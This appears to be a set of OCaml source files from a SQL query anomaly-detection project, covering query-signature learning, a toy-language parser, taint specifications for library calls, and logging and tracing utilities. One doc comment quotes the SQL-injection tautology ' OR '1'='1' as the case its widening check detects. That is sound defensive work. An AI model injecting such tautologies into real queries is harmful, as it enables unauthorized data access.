  e.count <- e.count + 1

let learn ?rows t sql =
  match Sqldb.Sql_parser.parse sql with
  | stmt -> learn_statement ?rows t stmt
  | exception Sqldb.Sql_parser.Error _ -> t.malformed <- t.malformed + 1
  | exception Sqldb.Sql_lexer.Error _ -> t.malformed <- t.malformed + 1

(* Register the signature without observing slot values — for texts
   seen at prepare time, whose [?] placeholders would otherwise widen
   the slots of the bound executions sharing the signature to Top. *)
let learn_shape t sql =
  match Sqldb.Sql_parser.parse sql with
  | stmt ->
      let signature = Signature.of_statement stmt in
      let observed = Signature.slots stmt in
      ignore (entry_for t signature (Array.length observed))
  | exception Sqldb.Sql_parser.Error _ -> t.malformed <- t.malformed + 1
  | exception Sqldb.Sql_lexer.Error _ -> t.malformed <- t.malformed + 1

let learn_run t sqls = List.iter (fun sql -> learn t sql) sqls

let learn_log t log = List.iter (fun (sql, rows) -> learn ~rows t sql) log

let of_runs runs =
  let t = create () in
  List.iter (learn_run t) runs;
  t

let of_logs logs =
  let t = create () in
  List.iter (learn_log t) logs;
  t

let copy t =
  let entries = Hashtbl.create (max 16 (Hashtbl.length t.entries * 2)) in
  Hashtbl.iter
    (fun key e ->
      Hashtbl.replace entries key
        { slots = Array.copy e.slots; band = e.band; count = e.count })
    t.entries;
  { entries; malformed = t.malformed }

let mem t signature = Hashtbl.mem t.entries (Signature.to_string signature)

let signatures t =
  Hashtbl.fold (fun key _ acc -> key :: acc) t.entries [] |> List.sort String.compare

let cardinality t = Hashtbl.length t.entries

let malformed_count t = t.malformed

let fold f t acc = Hashtbl.fold (fun key e acc -> f key e acc) t.entries acc

(* ------------------------------------------------------------------ *)
(* Text persistence: one [sig] line per signature followed by its
   [slot] lines. Signatures contain no tabs, slot lines no newlines. *)

let save_lines t =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf "# adprom qsig profile v1\n";
  Buffer.add_string buf (Printf.sprintf "malformed\t%d\n" t.malformed);
  List.iter
    (fun key ->
      let e = Hashtbl.find t.entries key in
      Buffer.add_string buf
        (Printf.sprintf "sig\t%d\t%d\t%d\t%d\t%s\n" e.count e.band.Constraints.blo
           e.band.Constraints.bhi e.band.Constraints.samples key);
      Array.iter
        (fun slot ->
          Buffer.add_string buf
            (Printf.sprintf "slot\t%s\n" (Constraints.slot_to_string slot)))
        e.slots)
    (signatures t);
  Buffer.contents buf

let save t path =
  let oc = open_out path in
  Fun.protect
    ~finally:(fun () -> close_out oc)
    (fun () -> output_string oc (save_lines t))

let load_lines lines =
  let t = create () in
  let current = ref None in
  let pending = ref [] in
  let flush_slots () =
    match !current with
    | None -> ()
    | Some e -> e.slots <- Array.of_list (List.rev !pending)
  in
  let err lineno msg = Error (Printf.sprintf "line %d: %s" lineno msg) in
  let rec go lineno = function
    | [] ->
        flush_slots ();
        Ok t
    | line :: rest -> (
        if line = "" || line.[0] = '#' then go (lineno + 1) rest
        else
          match String.split_on_char '\t' line with
          | [ "malformed"; n ] -> (
              match int_of_string_opt n with
              | Some n ->
                  t.malformed <- n;
                  go (lineno + 1) rest
              | None -> err lineno "bad malformed count")
          | "sig" :: count :: blo :: bhi :: samples :: sig_rest -> (
              let key = String.concat "\t" sig_rest in
              match
                ( int_of_string_opt count,
                  int_of_string_opt blo,
                  int_of_string_opt bhi,
                  int_of_string_opt samples )
              with
              | Some count, Some blo, Some bhi, Some samples ->
                  flush_slots ();
                  pending := [];
                  let e =
                    {
                      slots = [||];
                      band = { Constraints.blo; bhi; samples };
                      count;
                    }
                  in
                  Hashtbl.replace t.entries key e;
                  current := Some e;
                  go (lineno + 1) rest
              | _ -> err lineno "bad sig header")
          | [ "slot"; body ] -> (
              match (!current, Constraints.slot_of_string body) with
              | Some _, Some slot ->
                  pending := slot :: !pending;
                  go (lineno + 1) rest
              | None, _ -> err lineno "slot line before any sig line"
              | _, None -> err lineno "unreadable slot")
          | _ -> err lineno "unrecognized line")
  in
  go 1 lines

let load path =
  match open_in path with
  | exception Sys_error msg -> Error msg
  | ic ->
      Fun.protect
        ~finally:(fun () -> close_in ic)
        (fun () ->
          let rec read acc =
            match input_line ic with
            | line -> read (line :: acc)
            | exception End_of_file -> List.rev acc
          in
          load_lines (read []))

(* ------------------------------------------------------------------ *)

let json_escape s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 0x20 -> Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let to_json t =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf "{\n  \"signatures\": [\n";
  let keys = signatures t in
  List.iteri
    (fun i key ->
      let e = Hashtbl.find t.entries key in
      let band =
        if e.band.Constraints.samples = 0 then "null"
        else
          Printf.sprintf "{\"lo\": %d, \"hi\": %d, \"samples\": %d}"
            e.band.Constraints.blo e.band.Constraints.bhi e.band.Constraints.samples
      in
      let slots =
        Array.to_list e.slots
        |> List.map (fun s -> Printf.sprintf "\"%s\"" (json_escape (Constraints.slot_to_string s)))
        |> String.concat ", "
      in
      Buffer.add_string buf
        (Printf.sprintf "    {\"signature\": \"%s\", \"count\": %d, \"band\": %s, \"slots\": [%s]}%s\n"
           (json_escape key) e.count band slots
           (if i = List.length keys - 1 then "" else ",")))
    keys;
  Buffer.add_string buf
    (Printf.sprintf "  ],\n  \"malformed\": %d\n}\n" t.malformed);
  Buffer.contents buf

(** Learned query profile: signature -> slot constraints + cardinality
    band. The training input is either bare SQL texts (no cardinality,
    bands stay empty) or an executed-query log of [(sql, rows)] pairs
    as produced by {!Runtime.Interp} outcomes. *)

type entry = {
  mutable slots : Constraints.t array;
  mutable band : Constraints.band;
  mutable count : int;  (** training observations of this signature *)
}

type t

val create : unit -> t

val learn : ?rows:int -> t -> string -> unit
(** Parse and fold one query into the profile; unparseable text counts
    into the malformed bucket. *)

val learn_shape : t -> string -> unit
(** Register the query's signature without observing slot values — for
    prepare-time texts whose [?] placeholders would otherwise widen the
    slots shared with bound executions to Top. *)

val learn_statement : ?rows:int -> t -> Sqldb.Sql_ast.statement -> unit
val learn_run : t -> string list -> unit
val learn_log : t -> (string * int) list -> unit
val of_runs : string list list -> t
val of_logs : (string * int) list list -> t

val copy : t -> t
(** Independent deep copy; further learning on either side does not
    affect the other. *)

val mem : t -> Signature.t -> bool
val find : t -> Signature.t -> entry option
val find_by_text : t -> string -> entry option
val signatures : t -> string list
(** Signature texts, sorted. *)

val cardinality : t -> int
val malformed_count : t -> int
val fold : (string -> entry -> 'a -> 'a) -> t -> 'a -> 'a

val save : t -> string -> unit
val save_lines : t -> string
val load : string -> (t, string) result
val load_lines : string list -> (t, string) result
val to_json : t -> string

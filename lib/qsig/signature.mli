(** Structural query signatures.

    A signature is the literal-erased canonical form of a statement
    (see {!Sqldb.Sql_pp.signature}): keyword case and whitespace are
    normalized by the parser, constants erase to [?], IN-lists and
    multi-tuple INSERTs collapse to arity classes. Two queries share a
    signature exactly when they are the same access shape — the unit
    DetAnom-style profiles are keyed on. *)

type t = private string
(** Canonical signature text. Total order and equality are string ones. *)

val of_statement : Sqldb.Sql_ast.statement -> t

val of_sql : string -> (t, string) result
(** Parse then sign; [Error msg] when the text is not dialect SQL. *)

val malformed : t
(** Distinguished bucket for unparseable query text. *)

val to_string : t -> string
val compare : t -> t -> int
val equal : t -> t -> bool

(** {1 Slots}

    One slot per literal position of the erased form, in source order.
    The slot vector's length depends only on the signature: IN-lists
    are a single slot aggregating their members, INSERT slots aggregate
    per column position across tuples, LIMIT is a trailing slot. *)

type slot_value =
  | V_int of int
  | V_str of string
  | V_null
  | V_free  (** an unbound [?] placeholder: the slot can hold anything *)

val slots : Sqldb.Sql_ast.statement -> slot_value list array

(** {1 Predicate widening}

    Static shape checks on the WHERE clause, independent of any learned
    profile: a WHERE that evaluates true under three-valued logic with
    all non-constant atoms unknown is a tautology (Attack 5's
    [' OR '1'='1']); a constant literal-to-literal comparison anywhere
    is reported even when it does not widen to true. *)

type warning = Tautology | Constant_comparison

val widening_warnings : Sqldb.Sql_ast.statement -> warning list

open Ast

let binop_to_string = function
  | Add -> "+"
  | Sub -> "-"
  | Mul -> "*"
  | Div -> "/"
  | Mod -> "%"
  | Eq -> "=="
  | Ne -> "!="
  | Lt -> "<"
  | Le -> "<="
  | Gt -> ">"
  | Ge -> ">="
  | And -> "&&"
  | Or -> "||"

let precedence = function
  | Or -> 1
  | And -> 2
  | Eq | Ne -> 3
  | Lt | Le | Gt | Ge -> 4
  | Add | Sub -> 5
  | Mul | Div | Mod -> 6

let escape s =
  let buf = Buffer.create (String.length s + 2) in
  String.iter
    (fun c ->
      match c with
      | '\n' -> Buffer.add_string buf "\\n"
      | '\t' -> Buffer.add_string buf "\\t"
      | '\\' -> Buffer.add_string buf "\\\\"
      | '"' -> Buffer.add_string buf "\\\""
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

(* [ctx] is the minimum precedence the context requires: parenthesize
   when the node binds looser. Unary operators sit at 7, postfix
   (indexing) and atoms at 8. *)
let rec expr_prec ctx e =
  let wrap p body = if p < ctx then "(" ^ body ^ ")" else body in
  match e with
  | Int n -> if n < 0 then Printf.sprintf "(%d)" n else string_of_int n
  | Str s -> Printf.sprintf "\"%s\"" (escape s)
  | Bool true -> "true"
  | Bool false -> "false"
  | Null -> "null"
  | Var v -> v
  | Binop (op, a, b) ->
      let p = precedence op in
      wrap p
        (Printf.sprintf "%s %s %s" (expr_prec p a) (binop_to_string op)
           (expr_prec (p + 1) b))
  | Unop (Not, a) -> wrap 7 ("!" ^ expr_prec 7 a)
  | Unop (Neg, ((Int _ | Unop (Neg, _)) as a)) ->
      (* [-5] would reparse as the literal [Int (-5)]; parenthesizing
         the operand keeps an explicit negation a negation *)
      wrap 7 ("-(" ^ expr_prec 0 a ^ ")")
  | Unop (Neg, a) -> wrap 7 ("-" ^ expr_prec 7 a)
  | Call (name, args) ->
      Printf.sprintf "%s(%s)" name (String.concat ", " (List.map (expr_prec 0) args))
  | Index (a, i) -> Printf.sprintf "%s[%s]" (expr_prec 8 a) (expr_prec 0 i)

let expr_to_string e = expr_prec 0 e

let indent n = String.make (2 * n) ' '

let rec stmt_lines depth s =
  let pad = indent depth in
  match s with
  | Let (v, e) -> [ Printf.sprintf "%slet %s = %s;" pad v (expr_to_string e) ]
  | Assign (v, e) -> [ Printf.sprintf "%s%s = %s;" pad v (expr_to_string e) ]
  | Expr e -> [ Printf.sprintf "%s%s;" pad (expr_to_string e) ]
  | Return None -> [ pad ^ "return;" ]
  | Return (Some e) -> [ Printf.sprintf "%sreturn %s;" pad (expr_to_string e) ]
  | Break -> [ pad ^ "break;" ]
  | Continue -> [ pad ^ "continue;" ]
  | If (cond, then_, []) ->
      (Printf.sprintf "%sif (%s) {" pad (expr_to_string cond))
      :: block_lines (depth + 1) then_
      @ [ pad ^ "}" ]
  | If (cond, then_, else_) ->
      (Printf.sprintf "%sif (%s) {" pad (expr_to_string cond))
      :: block_lines (depth + 1) then_
      @ [ pad ^ "} else {" ]
      @ block_lines (depth + 1) else_
      @ [ pad ^ "}" ]
  | While (cond, body) ->
      (Printf.sprintf "%swhile (%s) {" pad (expr_to_string cond))
      :: block_lines (depth + 1) body
      @ [ pad ^ "}" ]
  | For (init, cond, step, body) ->
      let header stmt =
        match stmt_lines 0 stmt with
        | [ line ] -> String.sub line 0 (String.length line - 1) (* drop ';' *)
        | _ -> assert false
      in
      (Printf.sprintf "%sfor (%s; %s; %s) {" pad (header init) (expr_to_string cond) (header step))
      :: block_lines (depth + 1) body
      @ [ pad ^ "}" ]

and block_lines depth stmts = List.concat_map (stmt_lines depth) stmts

let stmt_to_string s = String.concat "\n" (stmt_lines 0 s)

let func_lines (f : func) =
  (Printf.sprintf "fun %s(%s) {" f.name (String.concat ", " f.params))
  :: block_lines 1 f.body
  @ [ "}" ]

let program_to_string (p : program) =
  String.concat "\n" (List.concat_map (fun f -> func_lines f @ [ "" ]) p.funcs)

let pp_program ppf p = Format.pp_print_string ppf (program_to_string p)

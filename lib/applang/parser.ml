exception Error of string * int * int

type state = { mutable toks : Token.located list }

let peek st : Token.located =
  match st.toks with
  | t :: _ -> t
  | [] -> { token = Token.EOF; line = 0; col = 0 }

let advance st = match st.toks with _ :: rest -> st.toks <- rest | [] -> ()

let fail (tok : Token.located) msg =
  raise (Error (Printf.sprintf "%s (found %s)" msg (Token.to_string tok.token), tok.line, tok.col))

let expect st token msg =
  let t = peek st in
  if t.token = token then advance st else fail t msg

let expect_ident st msg =
  let t = peek st in
  match t.token with
  | Token.IDENT name ->
      advance st;
      name
  | _ -> fail t msg

(* Expression parsing with precedence climbing. *)

let rec parse_expression st = parse_or st

and parse_or st =
  let lhs = parse_and st in
  let rec loop lhs =
    match (peek st).token with
    | Token.PIPEPIPE ->
        advance st;
        loop (Ast.Binop (Ast.Or, lhs, parse_and st))
    | _ -> lhs
  in
  loop lhs

and parse_and st =
  let lhs = parse_equality st in
  let rec loop lhs =
    match (peek st).token with
    | Token.AMPAMP ->
        advance st;
        loop (Ast.Binop (Ast.And, lhs, parse_equality st))
    | _ -> lhs
  in
  loop lhs

and parse_equality st =
  let lhs = parse_comparison st in
  let rec loop lhs =
    match (peek st).token with
    | Token.EQEQ ->
        advance st;
        loop (Ast.Binop (Ast.Eq, lhs, parse_comparison st))
    | Token.BANGEQ ->
        advance st;
        loop (Ast.Binop (Ast.Ne, lhs, parse_comparison st))
    | _ -> lhs
  in
  loop lhs

and parse_comparison st =
  let lhs = parse_additive st in
  let rec loop lhs =
    match (peek st).token with
    | Token.LT -> advance st; loop (Ast.Binop (Ast.Lt, lhs, parse_additive st))
    | Token.LE -> advance st; loop (Ast.Binop (Ast.Le, lhs, parse_additive st))
    | Token.GT -> advance st; loop (Ast.Binop (Ast.Gt, lhs, parse_additive st))
    | Token.GE -> advance st; loop (Ast.Binop (Ast.Ge, lhs, parse_additive st))
    | _ -> lhs
  in
  loop lhs

and parse_additive st =
  let lhs = parse_multiplicative st in
  let rec loop lhs =
    match (peek st).token with
    | Token.PLUS -> advance st; loop (Ast.Binop (Ast.Add, lhs, parse_multiplicative st))
    | Token.MINUS -> advance st; loop (Ast.Binop (Ast.Sub, lhs, parse_multiplicative st))
    | _ -> lhs
  in
  loop lhs

and parse_multiplicative st =
  let lhs = parse_unary st in
  let rec loop lhs =
    match (peek st).token with
    | Token.STAR -> advance st; loop (Ast.Binop (Ast.Mul, lhs, parse_unary st))
    | Token.SLASH -> advance st; loop (Ast.Binop (Ast.Div, lhs, parse_unary st))
    | Token.PERCENT -> advance st; loop (Ast.Binop (Ast.Mod, lhs, parse_unary st))
    | _ -> lhs
  in
  loop lhs

and parse_unary st =
  match (peek st).token with
  | Token.BANG ->
      advance st;
      Ast.Unop (Ast.Not, parse_unary st)
  | Token.MINUS -> (
      advance st;
      (* [-5] is the literal, not a negation: otherwise [Int (-5)]
         could never be spelled, and the pretty-printer's [(-5)] would
         reparse as [Unop (Neg, Int 5)]. [-5[i]] stays a negation —
         indexing binds tighter, so the [5] is not a lone literal. *)
      match st.toks with
      | { token = Token.INT _; _ } :: { token = Token.LBRACKET; _ } :: _ ->
          Ast.Unop (Ast.Neg, parse_unary st)
      | { token = Token.INT n; _ } :: _ ->
          advance st;
          Ast.Int (-n)
      | _ -> Ast.Unop (Ast.Neg, parse_unary st))
  | _ -> parse_postfix st

and parse_postfix st =
  let e = parse_primary st in
  let rec loop e =
    match (peek st).token with
    | Token.LBRACKET ->
        advance st;
        let idx = parse_expression st in
        expect st Token.RBRACKET "expected ']'";
        loop (Ast.Index (e, idx))
    | _ -> e
  in
  loop e

and parse_primary st =
  let t = peek st in
  match t.token with
  | Token.INT n -> advance st; Ast.Int n
  | Token.STRING s -> advance st; Ast.Str s
  | Token.KW_TRUE -> advance st; Ast.Bool true
  | Token.KW_FALSE -> advance st; Ast.Bool false
  | Token.KW_NULL -> advance st; Ast.Null
  | Token.LPAREN ->
      advance st;
      let e = parse_expression st in
      expect st Token.RPAREN "expected ')'";
      e
  | Token.IDENT name -> (
      advance st;
      match (peek st).token with
      | Token.LPAREN ->
          advance st;
          let args = parse_args st in
          Ast.Call (name, args)
      | _ -> Ast.Var name)
  | _ -> fail t "expected an expression"

and parse_args st =
  if (peek st).token = Token.RPAREN then begin
    advance st;
    []
  end
  else
    let rec loop acc =
      let e = parse_expression st in
      match (peek st).token with
      | Token.COMMA ->
          advance st;
          loop (e :: acc)
      | Token.RPAREN ->
          advance st;
          List.rev (e :: acc)
      | _ -> fail (peek st) "expected ',' or ')'"
    in
    loop []

(* Simple statements without trailing ';' are shared by for-headers. *)
let parse_simple st =
  let t = peek st in
  match t.token with
  | Token.KW_LET ->
      advance st;
      let name = expect_ident st "expected identifier after 'let'" in
      expect st Token.ASSIGN "expected '='";
      Ast.Let (name, parse_expression st)
  | Token.IDENT name when (match st.toks with _ :: { token = Token.ASSIGN; _ } :: _ -> true | _ -> false) ->
      advance st;
      advance st;
      Ast.Assign (name, parse_expression st)
  | _ -> Ast.Expr (parse_expression st)

let rec parse_stmt st =
  let t = peek st in
  match t.token with
  | Token.KW_IF ->
      advance st;
      expect st Token.LPAREN "expected '(' after 'if'";
      let cond = parse_expression st in
      expect st Token.RPAREN "expected ')'";
      let then_ = parse_block st in
      let else_ =
        if (peek st).token = Token.KW_ELSE then begin
          advance st;
          if (peek st).token = Token.KW_IF then [ parse_stmt st ] else parse_block st
        end
        else []
      in
      Ast.If (cond, then_, else_)
  | Token.KW_WHILE ->
      advance st;
      expect st Token.LPAREN "expected '(' after 'while'";
      let cond = parse_expression st in
      expect st Token.RPAREN "expected ')'";
      Ast.While (cond, parse_block st)
  | Token.KW_FOR ->
      advance st;
      expect st Token.LPAREN "expected '(' after 'for'";
      let init = parse_simple st in
      expect st Token.SEMI "expected ';' in for header";
      let cond = parse_expression st in
      expect st Token.SEMI "expected ';' in for header";
      let step = parse_simple st in
      expect st Token.RPAREN "expected ')'";
      Ast.For (init, cond, step, parse_block st)
  | Token.KW_RETURN ->
      advance st;
      if (peek st).token = Token.SEMI then begin
        advance st;
        Ast.Return None
      end
      else begin
        let e = parse_expression st in
        expect st Token.SEMI "expected ';' after return";
        Ast.Return (Some e)
      end
  | Token.KW_BREAK ->
      advance st;
      expect st Token.SEMI "expected ';' after break";
      Ast.Break
  | Token.KW_CONTINUE ->
      advance st;
      expect st Token.SEMI "expected ';' after continue";
      Ast.Continue
  | _ ->
      let s = parse_simple st in
      expect st Token.SEMI "expected ';'";
      s

and parse_block st =
  expect st Token.LBRACE "expected '{'";
  let rec loop acc =
    if (peek st).token = Token.RBRACE then begin
      advance st;
      List.rev acc
    end
    else loop (parse_stmt st :: acc)
  in
  loop []

let parse_func st =
  expect st Token.KW_FUN "expected 'fun'";
  let name = expect_ident st "expected function name" in
  expect st Token.LPAREN "expected '('";
  let params =
    if (peek st).token = Token.RPAREN then begin
      advance st;
      []
    end
    else
      let rec loop acc =
        let p = expect_ident st "expected parameter name" in
        match (peek st).token with
        | Token.COMMA ->
            advance st;
            loop (p :: acc)
        | Token.RPAREN ->
            advance st;
            List.rev (p :: acc)
        | _ -> fail (peek st) "expected ',' or ')'"
      in
      loop []
  in
  let body = parse_block st in
  { Ast.name; params; body }

let parse_program src =
  let st = { toks = Lexer.tokenize src } in
  let rec loop acc =
    if (peek st).token = Token.EOF then List.rev acc else loop (parse_func st :: acc)
  in
  let funcs = loop [] in
  { Ast.funcs }

let parse_expr src =
  let st = { toks = Lexer.tokenize src } in
  let e = parse_expression st in
  (match (peek st).token with
  | Token.EOF -> ()
  | _ -> fail (peek st) "trailing tokens after expression");
  e

type taint_kind =
  | Source
  | Propagate
  | Clean

type spec = { name : string; taint : taint_kind; is_sink : bool }

let mk name taint is_sink = { name; taint; is_sink }

let all =
  [
    (* database: PostgreSQL-style *)
    mk "db_connect" Clean false;
    mk "pq_exec" Source false;
    mk "pq_prepare" Clean false;
    mk "pq_exec_prepared" Source false;
    mk "pq_ntuples" Clean false;
    mk "pq_nfields" Clean false;
    mk "pq_getvalue" Propagate false;
    mk "pq_result_status" Clean false;
    (* database: MySQL-style *)
    mk "mysql_query" Clean false;
    mk "mysql_store_result" Source false;
    mk "mysql_fetch_row" Propagate false;
    mk "mysql_num_rows" Clean false;
    mk "mysql_num_fields" Clean false;
    mk "mysql_prepare" Clean false;
    mk "mysql_stmt_execute" Source false;
    (* terminal / file output: the paper's output statements *)
    mk "printf" Clean true;
    mk "fprintf" Clean true;
    mk "sprintf" Propagate true;
    mk "snprintf" Propagate true;
    mk "puts" Clean true;
    mk "fputs" Clean true;
    mk "fputc" Clean true;
    mk "fwrite" Clean true;
    mk "write" Clean true;
    mk "system" Clean true;
    (* input *)
    mk "scanf" Clean false;
    mk "scanf_int" Clean false;
    mk "getline" Clean false;
    mk "fgets" Clean false;
    mk "feof" Clean false;
    (* files *)
    mk "fopen" Clean false;
    mk "fclose" Clean false;
    (* strings and misc *)
    mk "strcpy" Propagate false;
    mk "strcat" Propagate false;
    mk "substr" Propagate false;
    mk "to_string" Propagate false;
    mk "atoi" Propagate false;
    mk "strlen" Clean false;
    mk "strcmp" Clean false;
    mk "str_contains" Clean false;
    mk "rand_int" Clean false;
    mk "exit" Clean false;
    (* web applications (the paper's future work) *)
    mk "http_next_request" Clean false;
    mk "http_method" Clean false;
    mk "http_path" Clean false;
    mk "http_param" Clean false;
    mk "http_respond" Clean true;
    mk "http_write" Clean true;
  ]

let table =
  let tbl = Hashtbl.create 64 in
  List.iter (fun s -> Hashtbl.replace tbl s.name s) all;
  tbl

let synthetic name = String.length name > 4 && String.sub name 0 4 = "lib_"

let find name =
  match Hashtbl.find_opt table name with
  | Some s -> Some s
  | None -> if synthetic name then Some (mk name Clean false) else None

let is_sink name = match find name with Some s -> s.is_sink | None -> false
let is_source name = match find name with Some s -> s.taint = Source | None -> false
let taint_of name = match find name with Some s -> s.taint | None -> Clean
let is_builtin name = find name <> None

(* The second taint polarity: attacker-controlled input rather than
   DB-retrieved data. Integer-valued builtins ([atoi], [scanf_int],
   [strlen], ...) sanitize — a value rendered as digits cannot alter SQL
   structure — so they are deliberately absent from the propagate set. *)
let untrusted_sources = [ "scanf"; "getline"; "fgets"; "http_method"; "http_path"; "http_param" ]

let untrusted_propagators =
  [ "strcpy"; "strcat"; "substr"; "to_string"; "sprintf"; "snprintf" ]

let untrusted_taint_of name =
  if List.mem name untrusted_sources then Source
  else if List.mem name untrusted_propagators then Propagate
  else Clean

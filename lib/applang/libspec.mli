(** Specification of AppLang's library calls.

    This is the single source of truth shared by the static analyzer
    (data-dependency labeling), the interpreter (dynamic taint) and the
    dataset generators: which builtins {e source} targeted data from the
    database, which merely {e propagate} taint, and which are {e output
    statements} (sinks) in the sense of Sec. IV-A of the paper. *)

type taint_kind =
  | Source  (** returns data retrieved from the DB ([pq_exec], ...) *)
  | Propagate  (** returns tainted data iff an argument is tainted *)
  | Clean  (** returns untainted data *)

type spec = { name : string; taint : taint_kind; is_sink : bool }

val find : string -> spec option
(** [None] for unknown names (user functions or synthetic calls). *)

val is_sink : string -> bool
(** Output statements: [printf], [fprintf], [sprintf], [snprintf],
    [fputs], [fputc], [fwrite], [write], [puts], [system]. *)

val is_source : string -> bool
val taint_of : string -> taint_kind
(** [Clean] for unknown names. *)

val is_builtin : string -> bool
(** Known builtin, including the synthetic [lib_*] no-ops used by the
    SIR-scale program generator. *)

val untrusted_taint_of : string -> taint_kind
(** The injection polarity: which builtins return {e attacker-controlled}
    input ([scanf], [getline], [fgets], [http_method], [http_path],
    [http_param]) and which string builtins propagate it. Integer-valued
    builtins ([atoi], [scanf_int], [strlen], ...) sanitize: a value
    rendered as digits cannot change SQL structure. This is the dual of
    {!taint_of}, which tracks DB-retrieved data flowing {e out} of the
    program; here we track untrusted data flowing {e into} SQL text. *)

val all : spec list

(** A bounded ring of the most recent values — the in-memory tail the
    daemon keeps per shard so a crash or shutdown can show "the last N
    things that happened here" without unbounded memory.

    Not synchronized: a ring belongs to one writer (e.g. one shard
    worker); read it after the writer has stopped, or from the writer
    itself. *)

type 'a t

val create : int -> 'a t
(** A ring keeping the last [capacity] pushes. [create 0] is a valid
    ring that discards everything.
    @raise Invalid_argument on a negative capacity. *)

val capacity : 'a t -> int

val length : 'a t -> int
(** Values currently retained, [<= capacity]. *)

val pushed : 'a t -> int
(** Total pushes ever, including the ones that have rotated out. *)

val push : 'a t -> 'a -> unit

val to_list : 'a t -> 'a list
(** Retained values, oldest first. *)

val clear : 'a t -> unit

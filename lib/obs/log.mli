(** Structured, severity-leveled event log.

    One global sink (null, stderr, or a file) receives events as JSONL
    — one [{"ts":..,"level":..,"scope":..,"msg":..,...fields}] object
    per line — and any event can additionally be retained in a caller
    provided bounded {!Ring} (the daemon keeps one per shard, so
    shutdown and error paths can print the last N events of the shard
    that mattered). Events below the threshold level cost one branch
    and nothing else.

    [emit] is safe from multiple domains with respect to the global
    sink (writes are serialized under a mutex); a ring, as documented
    in {!Ring}, belongs to its single writer. *)

type level =
  | Debug
  | Info
  | Warn
  | Error

val level_to_string : level -> string
(** ["debug"], ["info"], ["warn"], ["error"]. *)

val level_of_string : string -> level option

type value =
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string

type event = {
  time : float;  (** wall clock, [Unix.gettimeofday] *)
  level : level;
  scope : string;  (** dotted component name, e.g. ["daemon.shard0"] *)
  message : string;
  fields : (string * value) list;
}

val event_to_json : event -> string
(** One JSONL line (no trailing newline). *)

val event_to_string : event -> string
(** Human-oriented one-liner: [LEVEL scope: message key=value ...]. *)

type sink =
  | Null
  | Stderr
  | Channel of out_channel

val set_sink : sink -> unit
(** Default [Null]. Setting a new sink never closes the old channel
    (the opener owns it). *)

val to_file : ?max_bytes:int -> string -> unit
(** Open [path] for append and make it the sink. With [max_bytes] the
    sink rotates: when the next line would push the file past the
    budget, the file is renamed to [path ^ ".1"] (replacing any
    previous generation) and a fresh [path] is started — so on-disk
    use stays bounded by roughly twice [max_bytes] and recent history
    survives the rollover. Rotation happens under the sink mutex, so
    concurrent emitters never interleave across generations.
    @raise Invalid_argument when [max_bytes <= 0]. *)

val set_threshold : level -> unit
(** Drop events below this level (default [Info]). *)

val threshold : unit -> level

val enabled : level -> bool

val emit :
  ?ring:event Ring.t ->
  ?fields:(string * value) list ->
  level ->
  scope:string ->
  string ->
  unit
(** Record one event: below-threshold levels are dropped before any
    allocation; otherwise the event lands in [ring] (if given) and on
    the global sink. *)

type span = {
  name : string;
  trace_id : int;
  span_id : int;
  parent : int option;
  domain : int;
  start_ns : int64;
  dur_ns : int64;
  attrs : (string * string) list;
}

let enabled_flag = Atomic.make false
let set_enabled b = Atomic.set enabled_flag b
let enabled () = Atomic.get enabled_flag

let next_id = Atomic.make 1

(* Per-domain stack of open spans: (trace_id, span_id), innermost
   first. *)
let context : (int * int) list ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref [])

let current_trace_id () =
  match !(Domain.DLS.get context) with [] -> None | (tid, _) :: _ -> Some tid

let current_span_id () =
  match !(Domain.DLS.get context) with [] -> None | (_, sid) :: _ -> Some sid

(* Finished spans: a bounded ring plus the hook list, one mutex. *)
let mutex = Mutex.create ()
let ring = ref (Ring.create 65536)

type hook = int

let hooks : (int * (span -> unit)) list ref = ref []
let next_hook = ref 0

let set_capacity n =
  Mutex.lock mutex;
  (match Ring.create n with
  | r -> ring := r
  | exception e ->
      Mutex.unlock mutex;
      raise e);
  Mutex.unlock mutex

let spans () =
  Mutex.lock mutex;
  let l = Ring.to_list !ring in
  Mutex.unlock mutex;
  l

let span_count () =
  Mutex.lock mutex;
  let n = Ring.pushed !ring in
  Mutex.unlock mutex;
  n

let clear () =
  Mutex.lock mutex;
  Ring.clear !ring;
  Mutex.unlock mutex

let on_span_end f =
  Mutex.lock mutex;
  incr next_hook;
  let id = !next_hook in
  hooks := (id, f) :: !hooks;
  Mutex.unlock mutex;
  id

let remove_hook id =
  Mutex.lock mutex;
  hooks := List.filter (fun (i, _) -> i <> id) !hooks;
  Mutex.unlock mutex

let record sp =
  Mutex.lock mutex;
  Ring.push !ring sp;
  let hs = !hooks in
  Mutex.unlock mutex;
  List.iter
    (fun (id, f) -> try f sp with _ -> remove_hook id)
    hs

let fresh_id () = Atomic.fetch_and_add next_id 1

let record_span ?(attrs = []) ?trace_id ~name ~start_ns ~dur_ns () =
  (* deliberately NOT gated on the enabled flag: externally-timed spans
     only exist because some process already decided to trace (a router
     propagating a Trace_mark), and that decision must not require every
     node to flip its own switch. The buffer stays bounded either way. *)
  let span_id = fresh_id () in
  let trace_id = match trace_id with Some t -> t | None -> span_id in
  record
    {
      name;
      trace_id;
      span_id;
      parent = None;
      domain = (Domain.self () :> int);
      start_ns;
      dur_ns;
      attrs;
    }

let with_span ?attrs name f =
  if not (Atomic.get enabled_flag) then f ()
  else begin
    let stack = Domain.DLS.get context in
    let parent, trace_id, span_id =
      let sid = Atomic.fetch_and_add next_id 1 in
      match !stack with
      | [] -> (None, sid, sid)
      | (tid, psid) :: _ -> (Some psid, tid, sid)
    in
    stack := (trace_id, span_id) :: !stack;
    let t0 = Clock.monotonic_ns () in
    let finish () =
      let dur = Int64.sub (Clock.monotonic_ns ()) t0 in
      (stack :=
         match !stack with
         | (_, sid) :: rest when sid = span_id -> rest
         | other -> other (* a thunk that unwound the stack itself *));
      let attrs =
        match attrs with None -> [] | Some f -> ( try f () with _ -> [])
      in
      record
        {
          name;
          trace_id;
          span_id;
          parent;
          domain = (Domain.self () :> int);
